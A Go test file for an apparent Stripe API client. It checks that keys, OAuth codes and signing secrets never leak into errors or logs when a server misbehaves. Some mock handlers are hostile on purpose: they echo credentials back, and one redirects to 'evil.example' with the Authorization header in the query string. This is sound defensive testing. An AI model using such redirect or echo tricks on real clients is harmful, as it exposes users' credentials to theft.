package stripe

import (
	"bytes"
	"context"
	"fmt"
	"log/slog"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/gostanna/stanna"
)

// oddKey does not look like a key.
const oddKey = stanna.Secret("0123-of-no-form-at-all")

// TestNoSecretLeaks makes every call on every failing road, among them a
// server that hands back whatever it was sent, and looks for the secrets in
// everything that can be printed of the result.
func TestNoSecretLeaks(t *testing.T) {
	echo := func(status int, format string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			sent := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
			if r.Form.Get("code") != "" {
				sent += " " + r.Form.Get("code")
			}
			says(status, strings.ReplaceAll(format, "SECRET", sent))(w, r)
		}
	}
	roads := map[string]http.HandlerFunc{
		"500": says(500, ""), "429": says(429, ""), "reset": half, "garbage": says(200, "<html>"), "nothing": says(200, "{}"),
		"401":            echo(401, `{"error":{"type":"invalid_request_error","message":"Invalid API Key provided: SECRET"}}`),
		"403":            echo(403, `{"error":{"type":"SECRET","code":"SECRET","message":"The key SECRET: rak_invoice_read acct_1"}}`),
		"400":            echo(400, `{"error":{"code":"SECRET","message":"SECRET is wrong, and whsec_verySecretSigningSecret is too, and SECRET"}}`),
		"400 of OAuth":   echo(400, `{"error":"SECRET","error_description":"SECRET"}`),
		"400 of a word":  echo(400, `{"error":{"code":"sk_live_lower_case_key_0123456789"}}`),
		"echo":           echo(200, `SECRET`),
		"echo as a list": echo(200, `{"object":"SECRET","data":["SECRET"],"error":"SECRET"}`),
		"echo as an id":  echo(200, `{"object":"list","data":[{"id":["SECRET"]}],"has_more":true}`),
		"redirect": func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://evil.example/?k="+r.Header.Get("Authorization"), 307)
		},
		"header": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Retry-After", r.Header.Get("Authorization"))
			w.WriteHeader(429)
		},
		"nobody's answer": nil,
	}
	for name, road := range roads {
		address := dead()
		if road != nil {
			address = serve(t, road).URL
		}
		a, o, odd := api(t, address), oauth(t, address), api(t, address)
		odd.Key = oddKey
		for call, err := range map[string]error{
			"Page":     func() error { _, _, _, err := a.Page(t.Context(), Invoices, "", 10); return err }(),
			"Owner":    second(a.Owner(t.Context())),
			"Odd key":  second(odd.Owner(t.Context())),
			"Customer": second(a.Customer(t.Context(), "cus_1")),
			"Charge":   second(a.Charge(t.Context(), "ch_1")),
			"Decline":  second(a.Decline(t.Context(), Trail{Invoice: "in_1"})),
			"Create":   func() error { _, _, err := a.CreateEndpoint(t.Context(), "https://x.example", nil); return err }(),
			"Delete":   a.DeleteEndpoint(t.Context(), "we_1"),
			"Exchange": second(o.Exchange(t.Context(), testCode)),
			"Goodbye":  o.Deauthorize(t.Context(), "acct_1"),
		} {
			if err != nil {
				hunt(t, name+", "+call, err, err.Error())
			}
		}
	}
	a := api(t, dead())
	hunt(t, "the API itself", a, &a, oauth(t, dead()), Grant{AccessToken: testKey, RefreshToken: testPlatform},
		Verify([]byte("x"), sign([]byte("y"), noon), []stanna.Secret{testSigning}, noon), CheckKey("pk_live_51verySecretRestrictedKey"))
	odd := testKey + "\n"
	_, err := API{Base: dead(), Key: odd}.Owner(t.Context())
	hunt(t, "a key that is no header", err)
}

func second[T any](_ T, err error) error { return err }

func hunt(t *testing.T, where string, things ...any) {
	t.Helper()
	var b bytes.Buffer
	log := slog.New(slog.NewTextHandler(&b, nil))
	for _, x := range things {
		fmt.Fprintf(&b, "%v %+v %#v %s\n", x, x, x, x)
		log.LogAttrs(context.Background(), slog.LevelInfo, "x", slog.Any("x", x))
		if err, ok := x.(error); ok {
			for e := err; e != nil; {
				fmt.Fprintf(&b, "%v %+v\n", e, e)
				u, ok := e.(interface{ Unwrap() error })
				if !ok {
					break
				}
				e = u.Unwrap()
			}
		}
	}
	for _, s := range []string{testKey.Reveal(), testPlatform.Reveal(), testSigning.Reveal(), testCode, oddKey.Reveal(), "sk_live_lower_case_key_0123456789"} {
		if bytes.Contains(b.Bytes(), []byte(s)) || bytes.Contains(b.Bytes(), []byte(url.QueryEscape(s))) {
			t.Errorf("%s: a secret is in %s", where, b.String())
		}
	}
}
